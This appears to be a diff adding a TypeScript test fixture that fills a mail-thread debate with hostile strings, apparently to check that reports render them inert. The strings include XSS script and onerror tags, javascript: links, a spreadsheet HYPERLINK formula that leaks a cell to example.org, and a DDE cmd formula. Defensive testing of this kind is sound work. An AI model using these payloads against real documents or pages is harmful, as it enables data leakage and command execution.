@@ -1,0 +1,88 @@
+import type { Debate, Message, Name } from "../../analysis/types.ts";
+import { debateOf, evidenceIn, type Mail, messagesOf, stanceIn } from "./debate-builder.ts";
+
+/** What a hostile mail may hold: each must be seen in a report, and do nothing. */
+export const HOSTILE = {
+  script: "<script>alert(1)</script>",
+  image: '<img src=x onerror="alert(1)">',
+  markdownLink: "[click](javascript:alert(1))",
+  closeLink: "](javascript:alert(1))",
+  tableBreak: "a|b`|`c",
+  formula: '=HYPERLINK("http://example.org/?"&A1)',
+  plus: "+1+cmd|' /C calc'!A0",
+  escape: "\u001B[31mred\u001B[0m\u0007",
+  override: "abc\u202Edcba\u202C",
+  invisible: "zero\u200Bwidth",
+  halfPair: "half \uD83D pair",
+  endStyle: "</style></title></textarea>",
+  yaml: "--- \n# not a heading: [x]",
+  argdown: "[Claim]: <Argument> #tag @[x](y) // comment",
+  long: `long_${"x".repeat(5000)}`,
+  entity: "&lt;b&gt; &amp;amp;",
+} as const;
+
+export const hostileMessages: ReadonlyMap<string, Message> = messagesOf(mails());
+export const hostileDebate: Debate = debate(hostileMessages);
+
+function mails(): Mail[] {
+  const mallory = { from: "mallory@example.org", name: `Mallory "${HOSTILE.script}" \u202Egro` };
+  const quiet = { from: "=cmd@example.org", name: HOSTILE.formula };
+  const lines = Object.values(HOSTILE).map((text) => `I dislike ${text} for that.`);
+  return [
+    {
+      ...mallory,
+      id: 'a/b+c%d"><script>@example.org',
+      date: "2030-01-01T00:00:00Z",
+      subject: HOSTILE.image,
+      body: `How about these: ${Object.values(HOSTILE).join(" or ")}\n`,
+    },
+    { ...quiet, id: "`x`|[y](z)@example.org", date: "2030-01-02T00:00:00Z", body: `${lines.join("\n\n")}\n` },
+    {
+      from: "",
+      id: "nobody@example.org",
+      date: null,
+      body: `${HOSTILE.closeLink} is fine.\n${"y ".repeat(500_000)}\n`,
+    },
+  ];
+}
+
+function debate(messages: ReadonlyMap<string, Message>): Debate {
+  const [first = "", second = "", third = ""] = messages.keys();
+  const strings = Object.values(HOSTILE).map((text) => text.replace(/\s+/g, " "));
+  const body = messages.get(first)?.body.trimEnd().replace(/\s+/g, " ") ?? "";
+  const names: Name[] = strings.map((name, index) => ({
+    name,
+    aliases: [`${name}2`],
+    role: "proposed",
+    proposal: evidenceIn(messages, first, index % 2 === 0 ? body : name, `rule-${index}`, 0.3),
+    firstUse: null,
+    fate: "open",
+  }));
+  const stances = strings.map((name) =>
+    stanceIn(messages, { name, stance: "oppose", in: second, quote: `I dislike ${name} for that.` }, [["other", name]]),
+  );
+  return debateOf(messages, {
+    id: "hostile",
+    about: Object.values(HOSTILE).join(" "),
+    subject: HOSTILE.image,
+    names,
+    stances: [
+      ...stances,
+      stanceIn(messages, {
+        name: HOSTILE.closeLink,
+        stance: "support",
+        in: third,
+        quote: `${HOSTILE.closeLink} is fine.`,
+      }),
+    ],
+    decision: { status: "undecided", reason: `It trails off ${HOSTILE.script}` },
+    coverage: {
+      messages: 3,
+      messagesWithFindings: 3,
+      missingMessages: ["gone/<b>@example.org"],
+      quotedLines: 0,
+      quotedLinesWithoutSource: 0,
+      problems: [{ messageId: HOSTILE.image, detail: HOSTILE.escape }],
+    },
+  });
+}
